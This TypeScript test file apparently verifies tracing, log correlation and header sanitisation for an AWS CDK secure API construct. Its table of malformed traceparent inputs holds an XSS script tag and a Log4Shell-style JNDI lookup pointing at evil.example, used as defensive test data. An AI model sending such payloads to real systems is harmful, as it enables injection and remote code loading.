import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { App, Stack } from 'aws-cdk-lib';
import { AttributeType, TableV2 } from 'aws-cdk-lib/aws-dynamodb';
import { Secret } from 'aws-cdk-lib/aws-secretsmanager';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documents } from '../../lambdas/documents/api.ts';
import { documentsTable } from '../../lambdas/documents/data/table.ts';
import { Identity, SecureApi, type SecureApiProps } from '../../lib/construct/index.ts';
import { type Client, clientOf } from '../support/client.ts';
import { root, temporaryFolder } from '../support/folders.ts';
import { type RunningGateway, startGateway } from '../support/gateway.ts';

interface Span {
  readonly traceId: string;
  readonly spanId: string;
  readonly parentId?: string;
  readonly name: string;
  readonly failed: boolean;
  readonly attributes: Readonly<Record<string, string | number>>;
}

const TRACE = '4bf92f3577b34da6a3ce929d0e0e4736';
const PARENT = '00f067aa0ba902b7';
const PATH = '/documents/3f6c1f2e-8d0b-4c33-9a5e-1b2c3d4e5f60';
let gateway: RunningGateway;
let xray: Client;
let collector: Client;
let token: string;

/** The sample twice: with X-Ray, and with a collector that must not be reached from here. */
function assembly(): string {
  const outdir = temporaryFolder();
  const app = new App({ outdir });
  const stack = new Stack(app, 'Traces');
  const attribute = (name: string) => ({ name, type: AttributeType.STRING });
  const { partitionKey, sortKey } = documentsTable;
  const keys = { partitionKey: attribute(partitionKey), sortKey: attribute(sortKey) };
  const table = new TableV2(stack, 'Table', keys);
  const issuer = 'https://login.example.com';
  const identity = Identity.oidc({ issuer, audience: 'documents', jwksUri: `${issuer}/jwks` });
  const headers = new Secret(stack, 'Headers');
  const ways: readonly SecureApiProps['tracing'][] = ['xray', { endpoint: 'https://collector.example.com', headers }];
  for (const [i, tracing] of ways.entries()) {
    const handlers = join(root, 'lambdas/documents');
    const api = new SecureApi(stack, `Api${i}`, {
      definition: documents,
      handlers,
      identity,
      revocation: true,
      tracing,
    });
    table.grantReadWriteData(api.handler('getDocument'));
    api.handler('getDocument').addEnvironment('TABLE_NAME', table.tableName);
  }
  app.synth();
  return outdir;
}

beforeAll(async () => {
  gateway = await startGateway({ assembly: assembly() });
  const { apis, ca } = gateway.ready;
  const [first, second] = apis.map(({ url }) => clientOf({ url, ca }));
  [xray, collector] = [first ?? expect.fail('no API'), second ?? expect.fail('no second API')];
  token = await gateway.token('viewer');
});
afterAll(() => gateway?.stop());

const linesOf = (file: string): readonly Record<string, unknown>[] =>
  readFileSync(file, 'utf8')
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line));
const spansOf = (traceId: string) =>
  (linesOf(join(gateway.ready.data, 'traces.jsonl')) as unknown as readonly Span[]).filter(
    (one) => one.traceId === traceId,
  );
/** Everything that the logs have of a request. A line is in its file a moment later. */
const entriesOf = async (requestId: string) => {
  await sleep(400);
  const folder = join(gateway.ready.data, 'logs');
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  const lines = files.flatMap(({ parentPath, name }) => linesOf(join(parentPath, name)));
  return lines.filter((line) => line['requestId'] === requestId);
};
/** The names of spans, each below its parent. */
const treeOf = (spans: readonly Span[], parentId: string | undefined): object =>
  Object.fromEntries(
    spans.filter((one) => one.parentId === parentId).map(({ name, spanId }) => [name, treeOf(spans, spanId)]),
  );
async function complete(traceId: string, count: number): Promise<readonly Span[]> {
  for (let i = 0; i < 100 && spansOf(traceId).length < count; i += 1) await sleep(50);
  return spansOf(traceId);
}

const WORK = { validation: {}, handler: { 'DynamoDB.GetItem': {} } };
const DECISION = { 'verify token': {}, 'check revocation': { 'DynamoDB.BatchGetItem': {} }, 'check binding': {} };
/** Where secrets and keys are read depends on what the instance has read before. */
const withoutReads = (tree: object): object =>
  Object.fromEntries(
    Object.entries(tree)
      .filter(([name]) => !/^(fetch keys|Secrets Manager\.)/.test(name))
      .map(([name, below]) => [name, withoutReads(below as object)]),
  );

describe('one request', () => {
  it('is one trace with X-Ray: gateway, functions, authorizer, validation, handler and calls, each below its parent', async () => {
    const response = await xray('GET', PATH, { token, headers: { traceparent: `00-${TRACE}-${PARENT}-01` } });
    expect(response.status).toBe(404);
    const [, traceId = ''] = /^00-([\da-f]{32})-/.exec(String(response.headers['traceresponse'])) ?? [];
    expect(traceId).not.toBe(TRACE);
    const spans = await complete(traceId, 13);
    const tree = withoutReads(treeOf(spans, undefined));
    const [gatewaySegment, functions] = Object.entries(tree)[0] ?? expect.fail('no segment');
    expect(gatewaySegment).toMatch(/\/live$/);
    const own = Object.fromEntries(Object.values(functions as object).flatMap((below) => Object.entries(below)));
    expect(own).toEqual({ authorizer: DECISION, 'GET /documents/:id': WORK });
    const requestId = String(response.headers['x-amzn-requestid']);
    // The attributes of gateway and functions have the names that a collector gets.
    expect(spans.filter(({ attributes }) => attributes['http.route'] === '/documents/{id}')).toHaveLength(2);
    expect(spans.filter(({ attributes }) => attributes['secure_api.request_id'] === requestId)).toHaveLength(1);
    const entries = await entriesOf(requestId);
    const ids = entries.map((entry) => String(entry['traceId']).replace(/^1-(\w{8})-(\w{24})$/, '$1$2'));
    expect([...new Set(ids)]).toEqual([traceId]);
    // The access log, the authorizer and the handler.
    expect(entries.length).toBeGreaterThanOrEqual(3);
    expect(entries.filter((entry) => entry['callerTraceId'] === TRACE).length).toBeGreaterThanOrEqual(2);
  });

  it("continues the caller's trace with a collector, and joins logs, response and spans", async () => {
    const headers = { traceparent: `00-${TRACE}-${PARENT}-00`, tracestate: 'a=1', 'X-Request-Id': 'job-42' };
    const response = await collector('GET', PATH, { token, headers });
    expect(response.status).toBe(404);
    expect(response.headers).toMatchObject({ 'x-request-id': 'job-42' });
    expect(response.headers['traceresponse']).toMatch(new RegExp(`^00-${TRACE}-`));
    const spans = await complete(TRACE, 9);
    expect(withoutReads(treeOf(spans, PARENT))).toEqual({ 'GET /documents/{id}': { authorizer: DECISION, ...WORK } });
    const entries = (await entriesOf(String(response.headers['x-amzn-requestid']))).filter(
      ({ message }) => message !== undefined,
    );
    expect(entries.length).toBeGreaterThanOrEqual(2);
    for (const entry of entries) expect(entry).toMatchObject({ traceId: TRACE, clientRequestId: 'job-42' });
    for (const message of ['request', 'authorizer decision']) {
      const entry = entries.find((one) => one['message'] === message);
      expect(entry).toMatchObject({ dependencies: { dynamodb: expect.any(Number) }, dependencyMs: expect.any(Number) });
    }
  });

  it('that is rejected by the authorizer has its span from there', async () => {
    const traceId = 'a'.repeat(32);
    const headers = { traceparent: `00-${traceId}-${PARENT}-01` };
    expect((await collector('GET', PATH, { token: 'a.b.c', headers })).status).toBe(401);
    const spans = await complete(traceId, 2);
    expect(treeOf(spans, PARENT)).toEqual({ 'GET /documents/{id}': { authorizer: { 'verify token': {} } } });
    expect(
      spans.map(({ attributes }) => attributes['http.response.status_code'] ?? attributes['secure_api.decision']),
    ).toEqual([401, undefined, 'reject']);
  });

  it.each<readonly [string, string | readonly string[]]>([
    ['upper case', `00-${TRACE.toUpperCase()}-${PARENT}-01`],
    ['only zeros', `00-${'0'.repeat(32)}-${'0'.repeat(16)}-01`],
    ['a version that is forbidden', `ff-${TRACE}-${PARENT}-01`],
    ['2,000 characters', `00-${'c'.repeat(2_000)}`],
    ['markup', '<script>alert(1)</script>'],
    ['a template', '#{jndi:ldap://evil.example/a}'],
    ['several values', [`00-${'d'.repeat(32)}-${PARENT}-01`, `00-${'e'.repeat(32)}-${PARENT}-01`]],
  ])('with a traceparent of %s is served, in a new trace', async (_, traceparent) => {
    for (const call of [xray, collector]) {
      const response = await call('GET', PATH, { token, headers: { traceparent, 'x-request-id': '<b>' } });
      expect(response.status).toBe(404);
      expect(response.headers).not.toHaveProperty('traceresponse');
      expect(response.headers).not.toHaveProperty('x-request-id');
      for (const entry of await entriesOf(String(response.headers['x-amzn-requestid']))) {
        for (const value of [traceparent].flat()) expect(JSON.stringify(entry)).not.toContain(value);
      }
    }
  });
});

it('no span has a path, a query, a header or a token', () => {
  const text = readFileSync(join(gateway.ready.data, 'traces.jsonl'), 'utf8');
  for (const secret of [token, PATH, PATH.slice(-36), 'tracestate', '127.0.0.1']) expect(text).not.toContain(secret);
});
